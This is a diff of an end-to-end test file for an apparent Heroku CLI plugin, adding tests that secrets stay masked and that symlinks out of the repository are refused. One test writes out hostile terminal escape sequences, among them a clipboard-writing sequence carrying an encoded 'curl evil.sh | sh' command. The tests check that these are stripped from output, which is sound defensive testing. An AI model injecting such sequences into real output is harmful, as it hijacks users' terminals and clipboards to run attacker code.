@@ -1,4 +1,4 @@
-import {execFile} from 'node:child_process'
+import {execFile, execFileSync} from 'node:child_process'
 import {cp, lstat, mkdtemp, readdir, readFile, readlink, rm, symlink, writeFile} from 'node:fs/promises'
 import {createServer, type Server} from 'node:net'
 import {tmpdir} from 'node:os'
@@ -8,7 +8,7 @@ import {promisify} from 'node:util'
 import {expect} from 'chai'
 
 import {pluginRequests} from '../support/contract.js'
-import {type Emulator, startEmulator} from 'heroku-emulator'
+import {type Emulator, scriptBuild, startEmulator} from 'heroku-emulator'
 import {type HerokuCli, ROOT, sharedHerokuCli} from '../support/heroku-cli.js'
 
 const SECRET = 'sk_live_9fQx2LmZ7wPq4RtY'
@@ -211,6 +211,7 @@ describe('e2e: safe with production secrets (issue 9)', function () {
           '  production:',
           '    drains:',
           '      - ${PROD_DRAIN_URL}',
+          'env_references: [PROD_DRAIN_URL]',
           '',
         ].join('\n'),
       )
@@ -237,7 +238,9 @@ describe('e2e: safe with production secrets (issue 9)', function () {
 
       const unset = await cli.run(['kit:bootstrap', '--dry-run'], emulator.url, {cwd: dir})
       expect(unset.code).to.not.equal(0)
-      expect(unset.stderr).to.include('${PROD_DRAIN_URL} is set neither')
+      expect(unset.stderr.replaceAll(/\s+/g, ' ')).to.include(
+        '${PROD_DRAIN_URL} is in no config file (the stage declares none), and is not set in the environment',
+      )
     } finally {
       await rm(dir, {recursive: true, force: true})
     }
@@ -291,5 +294,203 @@ describe('e2e: safe with production secrets (issue 9)', function () {
         }
       })
     }
+  })
+
+  describe('third pass (issue 19): references, credentials in paths, terminal escapes, links out of the repository', () => {
+    const ESC = '\u001B'
+    const dirs: string[] = []
+    const scratch = async (files: Record<string, string>): Promise<string> => {
+      const dir = await mkdtemp(path.join(tmpdir(), 'heroku-kit-sec19-'))
+      dirs.push(dir)
+      for (const [name, text] of Object.entries(files)) await writeFile(path.join(dir, name), text)
+      return dir
+    }
+
+    after(async () => {
+      await Promise.all(dirs.map(dir => rm(dir, {recursive: true, force: true})))
+    })
+
+    const quiet = {HEROKU_KIT_POLL_INTERVAL_MS: '10'}
+    const commands = [
+      ['kit:verify'],
+      ['kit:verify', '--json'],
+      ['kit:verify', '--local'],
+      ['kit:verify', '--local', '--json'],
+      ['kit:bootstrap', '--dry-run'],
+      ['kit:bootstrap', '--dry-run', '--json'],
+    ]
+
+    it("19.1: references to the runner's credentials and to values that are not URLs: named, never shown (plain and --json)", async function () {
+      this.timeout(900_000) // fourteen runs of the CLI
+      const githubToken = 'ghs_R3fErEnCeD0nlyByName1234567890'
+      const listed = 'not-a-url-but-a-Secret-4f9a8b7c'
+      const cases: Array<{drain: string; yml?: string; env?: Record<string, string>; secrets: string[]}> = [
+        {drain: '${GITHUB_TOKEN}', env: {GITHUB_TOKEN: githubToken}, secrets: [githubToken]},
+        {drain: '${HEROKU_API_KEY}', secrets: ['test-api-key']},
+        {drain: '${STRIPE_SECRET_KEY}', secrets: [SECRET]}, // a key of .env.production whose value is not a URL
+        {drain: '${LISTED_DRAIN}', yml: 'env_references: [LISTED_DRAIN]\n', env: {LISTED_DRAIN: listed}, secrets: [listed]},
+        {drain: '${UNLISTED_DRAIN}', env: {UNLISTED_DRAIN: `https://logs.example.com/in?token=${listed}`}, secrets: [listed]},
+      ]
+      for (const {drain, yml, env, secrets} of cases) {
+        const dir = await scratch({
+          Procfile: 'web: node server.js\n',
+          'heroku-kit.yml': `pipeline: refs\n${yml ?? ''}stages:\n  production:\n    config: .env.production\n    drains: ["${drain}"]\n`,
+          '.env.production': `STRIPE_SECRET_KEY=${SECRET}\nNODE_ENV=production\n`,
+        })
+        // every command for the key of .env.production; verify --local --json and a plan for the others
+        for (const args of drain === '${STRIPE_SECRET_KEY}' ? commands : [commands[3], commands[4]]) {
+          const result = await cli.run(args, emulator.url, {cwd: dir, env: {...quiet, ...env}})
+          const what = `${drain}: ${args.join(' ')}`
+          expect(result.code, `${what}\n${result.output}`).to.not.equal(0)
+          for (const secret of secrets) expect(result.output, what).to.not.include(secret)
+          // an unlisted name is not read at all: the plan names it (verify --local has nothing to compare it with)
+          if (drain !== '${UNLISTED_DRAIN}' || args[0] === 'kit:bootstrap') expect(result.output, what).to.include(drain)
+        }
+      }
+
+      expect(emulator.writes()).to.deep.equal([])
+    })
+
+    it('19.2: a token in a drain URL path (Loggly) is masked through import, verify and the plan, and import writes it as ${NAME}', async () => {
+      const token = '0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0'
+      const loggly = `https://logs-01.loggly.com/bulk/${token}/tag/heroku/`
+      emulator.state.createApp({name: 'paths-prod'})
+      const added = await cli.run(['drains:add', loggly, '-a', 'paths-prod'], emulator.url)
+      expect(added.code, added.output).to.equal(0)
+      const dir = await scratch({})
+      const imported = await cli.run(['kit:import', '-a', 'paths-prod', '--pipeline', 'paths', '--pull-config'], emulator.url, {cwd: dir})
+      expect(imported.code, imported.output).to.equal(0)
+      const yml = await readFile(path.join(dir, 'heroku-kit.yml'), 'utf8')
+      expect(yml).to.include('- ${LOG_DRAIN_URL}').and.not.include(token)
+      expect(await readFile(path.join(dir, '.env.production'), 'utf8')).to.include(token)
+      const runs = [
+        imported,
+        await cli.run(['kit:import', '-a', 'paths-prod', '--pipeline', 'paths', '--dry-run', '--json', '--force'], emulator.url, {cwd: dir}),
+      ]
+
+      // the same URL written into heroku-kit.yml by hand: verify's credential check warns, the plan masks it
+      const literal = await scratch({
+        Procfile: 'web: node server.js\n',
+        'heroku-kit.yml': `pipeline: paths\nstages:\n  production:\n    app: paths-prod\n    drains: ["${loggly}", "https://logs.example.com/ingest/9a8b7c6d5e4f3a2b1c0d"]\n`,
+      })
+      const verify = await cli.run(['kit:verify', '--local', '--json'], emulator.url, {cwd: literal})
+      const check = (JSON.parse(verify.stdout) as {checks: Array<{id: string; status: string; evidence: string[]}>}).checks.find(
+        c => c.id === 'pipeline-file-secrets',
+      )!
+      expect(check.status).to.equal('warn')
+      expect(check.evidence.join('\n')).to.include('bulk/•••/tag/heroku/').and.include('ingest/•••')
+      const plan = await cli.run(['kit:bootstrap', '--dry-run'], emulator.url, {cwd: literal, env: quiet})
+      expect(plan.stdout).to.include('https://logs.example.com/ingest/•••')
+      runs.push(verify, plan, await cli.run(['kit:bootstrap', '--dry-run', '--json'], emulator.url, {cwd: literal, env: quiet}))
+      runs.push(await cli.run(['kit:verify', '--json'], emulator.url, {cwd: literal, env: quiet}))
+      for (const run of runs) expect(run.output).to.not.include(token).and.not.include('9a8b7c6d5e4f3a2b1c0d')
+      emulator.state.deleteApp(emulator.state.findApp('paths-prod')!)
+    })
+
+    it('19.3: kit:config:sync --prune never deletes a referenced key; a reference to a key that is not a drain URL stops it before anything is sent', async () => {
+      const drainUrl = 'https://logs.example.com/in?token=drain-tok-5b8e1d'
+      emulator.state.setConfigVars('shop-staging', {LOG_DRAIN_URL: drainUrl, OLD_KEY: 'gone'})
+      const dir = await scratch({
+        'heroku-kit.yml': 'pipeline: shop\nstages:\n  staging:\n    config: .env.staging\n    drains: ["${STRIPE_SECRET_KEY}"]\n',
+        '.env.staging': `STRIPE_SECRET_KEY=${SECRET}\nLOG_DRAIN_URL=${drainUrl}\n`,
+      })
+      emulator.clearLog()
+      const refused = await cli.run(['kit:config:sync', '.env.staging', '--prune', '--confirm', 'shop-staging'], emulator.url, {cwd: dir})
+      expect(refused.code, refused.output).to.equal(1)
+      expect(refused.stderr).to.include('${STRIPE_SECRET_KEY} (from .env.staging) is not a URL').and.include('Nothing was sent')
+      expect(refused.output).to.not.include(SECRET)
+      expect(emulator.writes()).to.deep.equal([])
+
+      await writeFile(path.join(dir, 'heroku-kit.yml'), 'pipeline: shop\nstages:\n  staging:\n    config: .env.staging\n    drains: ["${LOG_DRAIN_URL}"]\n')
+      const synced = await cli.run(['kit:config:sync', '.env.staging', '--prune', '--confirm', 'shop-staging'], emulator.url, {cwd: dir})
+      expect(synced.code, synced.output).to.equal(0)
+      expect(synced.stdout).to.include('Left out LOG_DRAIN_URL').and.include('--prune never deletes it')
+      const vars = emulator.state.configVars.get(emulator.state.findApp('shop-staging')!.id)!
+      expect(vars.LOG_DRAIN_URL, 'the referenced key is still on the app').to.equal(drainUrl)
+      expect(vars.STRIPE_SECRET_KEY).to.equal(SECRET)
+      expect(vars.OLD_KEY, 'a key in neither place is pruned').to.equal(undefined)
+      expect(synced.output).to.not.include('drain-tok-5b8e1d').and.not.include(SECRET)
+    })
+
+    it('19.4: escape sequences in a commit subject, a build stream and an API error never reach stdout or stderr raw', async () => {
+      const hostile = [`${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`, `${ESC}]0;pwned${ESC}\\`, `${ESC}[2J`, `${ESC}[1;1H`, '\u009B2J', '\u0007']
+      const raw = (text: string) =>
+        hostile.some(sequence => text.includes(sequence)) || text.includes(`${ESC}]`) || new RegExp(`${ESC}\\[[\\d;]*[HJK]`).test(text)
+      emulator.state.createApp({name: 'esc-staging'})
+      const dir = await scratch({'heroku-kit.yml': 'pipeline: esc\nstages:\n  staging:\n    app: esc-staging\n', Procfile: 'web: node server.js\n'})
+      const gitEnv = {
+        ...process.env,
+        GIT_AUTHOR_NAME: 'Dev',
+        GIT_AUTHOR_EMAIL: 'dev@example.com',
+        GIT_COMMITTER_NAME: 'Dev',
+        GIT_COMMITTER_EMAIL: 'dev@example.com',
+      }
+      execFileSync('git', ['init', '-q', '-b', 'main'], {cwd: dir, env: gitEnv})
+      execFileSync('git', ['add', '-A'], {cwd: dir, env: gitEnv})
+      execFileSync('git', ['commit', '-q', '-m', `fix login ${hostile[0]}${hostile[2]}now`], {cwd: dir, env: gitEnv})
+      scriptBuild(emulator.state, 'esc-staging', {
+        outcome: 'succeeds',
+        output: [`-----> Building ${hostile[1]}on the stack`, `${hostile[2]}${hostile[3]}cleared`, `${ESC}[32mgreen text${ESC}[0m`, 'ok'],
+      })
+      const deploy = await cli.run(['kit:deploy', '-a', 'esc-staging'], emulator.url, {cwd: dir, env: {...quiet, HEROKU_KIT_HEALTH_TIMEOUT: '1'}})
+      expect(deploy.stdout, deploy.output).to.include('(fix login now)')
+      expect(deploy.stderr).to.include('build │ -----> Building on the stack').and.include('build │ cleared').and.include('green text')
+      expect(raw(deploy.stdout), JSON.stringify(deploy.stdout)).to.equal(false)
+      expect(raw(deploy.stderr), JSON.stringify(deploy.stderr)).to.equal(false)
+
+      emulator.faults.add({
+        method: 'GET',
+        path: '/apps/esc-staging/config-vars',
+        status: 422,
+        body: {id: 'invalid_params', message: `Refused ${hostile[0]}${hostile[1]}${hostile[2]}by the API.`},
+      })
+      const pulled = await cli.run(['kit:config:pull', path.join(dir, '.env.esc'), '-a', 'esc-staging'], emulator.url, {cwd: dir})
+      expect(pulled.code, pulled.output).to.not.equal(0)
+      expect(pulled.stderr).to.include('Refused by the API.')
+      expect(raw(pulled.output), JSON.stringify(pulled.output)).to.equal(false)
+      emulator.state.deleteApp(emulator.state.findApp('esc-staging')!)
+    })
+
+    it('19.5: links out of the repository (stage config file, Procfile, heroku-kit.yml) are refused; nothing from them is shown or sent', async () => {
+      const netrc = path.join(outside, 'netrc-19')
+      await writeFile(netrc, `machine api.heroku.com\n  login me@example.com\n  password ${SECRET}\n`)
+      const secrets = path.join(outside, 'env-19')
+      await writeFile(secrets, `STRIPE_SECRET_KEY=${SECRET}\n`)
+
+      const config = await scratch({Procfile: 'web: node server.js\n', 'heroku-kit.yml': 'pipeline: shop\nstages:\n  staging:\n    config: .env.staging\n'})
+      await symlink(secrets, path.join(config, '.env.staging'))
+      emulator.clearLog()
+      // kit:verify reads it as it reads a config file that isn't there: its keys are not compared, nothing of it is shown
+      const verify = await cli.run(['kit:verify', '--local'], emulator.url, {cwd: config, env: quiet})
+      expect(verify.output).to.not.include(SECRET)
+      for (const args of [
+        ['kit:bootstrap', '--dry-run'],
+        ['kit:config:sync', '.env.staging', '--yes'],
+        ['kit:bootstrap', '--yes', '--json'],
+      ]) {
+        const result = await cli.run(args, emulator.url, {cwd: config, env: quiet})
+        expect(result.code, `${args.join(' ')}\n${result.output}`).to.not.equal(0)
+        expect(result.output, args.join(' ')).to.include('.env.staging is a link to a file outside the repository')
+        expect(result.output).to.not.include(SECRET)
+      }
+
+      expect(emulator.writes()).to.deep.equal([])
+
+      for (const name of ['Procfile', 'heroku-kit.yml']) {
+        const dir = await scratch(name === 'Procfile' ? {'heroku-kit.yml': 'pipeline: shop\n'} : {Procfile: 'web: node server.js\n'})
+        await symlink(netrc, path.join(dir, name))
+        for (const args of [
+          ['kit:verify', '--local'],
+          ['kit:verify', '--local', '--json'],
+          ['kit:bootstrap', '--dry-run'],
+        ]) {
+          const result = await cli.run(args, emulator.url, {cwd: dir, env: quiet})
+          expect(result.output, `${name}: ${args.join(' ')}`).to.include(`${name} is a link to a file outside the repository`)
+          expect(result.output).to.not.include(SECRET).and.not.include('me@example.com')
+        }
+      }
+
+      expect(emulator.writes()).to.deep.equal([])
+    })
   })
 })
